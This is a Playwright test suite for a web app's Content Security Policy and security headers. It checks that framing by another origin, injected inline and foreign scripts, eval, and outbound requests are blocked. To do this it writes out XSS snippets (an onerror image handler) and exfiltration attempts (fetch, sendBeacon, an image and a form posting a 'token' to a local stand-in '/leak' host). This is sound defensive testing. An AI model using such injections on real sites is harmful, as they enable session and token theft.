import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { signIn } from '../../commands/sign-in.js';
import { SAMPLE_ADMIN } from '../../core/accounts.js';
import { SHELL_URL } from '../../core/environment.js';
import { sliceOrigin } from '../../core/slices.js';
import { expect, test } from '../../core/test.js';

/** Another site: it frames the requested page, and records all requests that it receives. */
interface OtherSite {
  origin: string;
  asked: string[];
}

let server: Server;
let other: OtherSite;

test.beforeAll(async () => {
  const asked: string[] = [];
  server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://other.example');
    const framed = url.searchParams.get('frame');
    if (framed === null) asked.push(url.pathname);
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', framed === null ? 'text/javascript' : 'text/html');
    response.end(framed === null ? 'window.foreign = true' : `<iframe src="${framed}"></iframe>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  other = { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
});
test.afterAll(() => {
  server.closeAllConnections();
  server.close();
});
test.beforeEach(() => {
  other.asked.length = 0;
});

/** The directive that blocks what the statements do on the page. */
const refusalOf = (page: Page, statements: string) =>
  page.evaluate(`new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
    setTimeout(() => resolve('nothing'), 10_000);
    ${statements}
  })`);

for (const [what, address] of [
  ['the shell', `${SHELL_URL}/demand/login`],
  ['a page of help', `${SHELL_URL}/help/start.html`],
  ['a slice alone', `${sliceOrigin('mf-orders')}/`],
] as const) {
  test(`${what} is not shown in a frame of another port`, async ({ page }) => {
    const refused = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()));
    await page.goto(`${other.origin}/?frame=${encodeURIComponent(address)}`);
    await refused;
    const frame = page.frames()[1];
    expect(frame?.url()).toMatch(/^chrome-error:/);
  });
}

test('injected code does not run, and contacts no server', async ({ page }) => {
  await signIn(page, SAMPLE_ADMIN, '/demand/orders');
  const { origin } = other;
  const append = (tag: string, properties: string) =>
    `document.body.append(Object.assign(document.createElement('${tag}'), ${properties}));`;
  for (const [directive, action] of [
    ['script-src-elem', append('script', `{ textContent: 'window.inline = true' }`)],
    ['script-src-elem', append('script', `{ src: '${origin}/foreign.js' }`)],
    ['script-src-elem', append('script', `{ src: 'data:text/javascript,window.inline = true' }`)],
    [
      'script-src-attr',
      `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.inline = true">');`,
    ],
    ['style-src-elem', append('style', `{ textContent: '*{color:red}' }`)],
    ['style-src-elem', append('link', `{ rel: 'stylesheet', href: '${origin}/foreign.css' }`)],
    ['img-src', append('img', `{ src: '${origin}/leak.png?token' }`)],
    ['connect-src', `fetch('${origin}/leak').catch(() => undefined);`],
    ['connect-src', `navigator.sendBeacon('${origin}/leak', 'token');`],
    ['connect-src', `new WebSocket('ws://127.0.0.1:9/');`],
    ['frame-src', append('iframe', `{ src: '${origin}/frame' }`)],
    ['object-src', append('object', `{ data: '${origin}/plugin' }`)],
    ['base-uri', append('base', `{ href: '${origin}/' }`)],
    [
      'form-action',
      `${append('form', `{ action: '${origin}/leak', method: 'post', id: 'leak' }`)} document.getElementById('leak').submit();`,
    ],
    ['worker-src', `new Worker(URL.createObjectURL(new Blob(['1'])));`],
    ['media-src', append('audio', `{ src: '${origin}/a.mp3' }`)],
  ] as const) {
    expect.soft(await refusalOf(page, action), action).toBe(directive);
  }
  expect(await page.evaluate('window.inline ?? window.foreign ?? null')).toBeNull();
  expect(other.asked).toEqual([]);
});

test('text is not compiled to code', async ({ page }) => {
  await page.goto('/demand/login');
  const refusal = await page.evaluate(`new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.blockedURI), { once: true });
    setTimeout('window.compiled = true');
  })`);
  expect(refusal).toBe('eval');
  expect(await page.evaluate('window.compiled ?? null')).toBeNull();
});

test('the nonce of styles is new in each response, and no page is cached', async ({ request }) => {
  const nonces = new Set<string>();
  for (const address of [`${SHELL_URL}/demand/login`, `${SHELL_URL}/demand/login`]) {
    const response = await request.get(address);
    const headers = response.headers();
    const [, nonce = ''] = /'nonce-([^']+)'/.exec(headers['content-security-policy'] ?? '') ?? [];
    expect(nonce.length).toBeGreaterThan(20);
    expect(await response.text()).toContain(`nonce="${nonce}"`);
    expect(headers['cache-control']).toBe('no-store');
    nonces.add(nonce);
  }
  expect(nonces.size).toBe(2);
});

test('every kind of response has its security headers', async ({ request }) => {
  const remote = sliceOrigin('mf-orders');
  for (const address of [
    `${SHELL_URL}/`,
    `${SHELL_URL}/config.json`,
    `${SHELL_URL}/remotes.json`,
    `${SHELL_URL}/help/start.html`,
    `${SHELL_URL}/assets/gone.js`,
    `${remote}/`,
    `${remote}/mf-orders/0.0.0/gone.js`,
  ]) {
    const headers = (await request.get(address)).headers();
    expect.soft(headers, address).toMatchObject({
      'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': expect.stringMatching(/^(strict-origin|no-referrer)$/),
      'permissions-policy': expect.stringContaining('camera=()'),
      'cross-origin-resource-policy': expect.any(String),
    });
  }
  const gone = (await request.get(`${remote}/mf-orders/0.0.0/gone.js`)).headers();
  expect(gone['cache-control']).toBe('no-store');
});
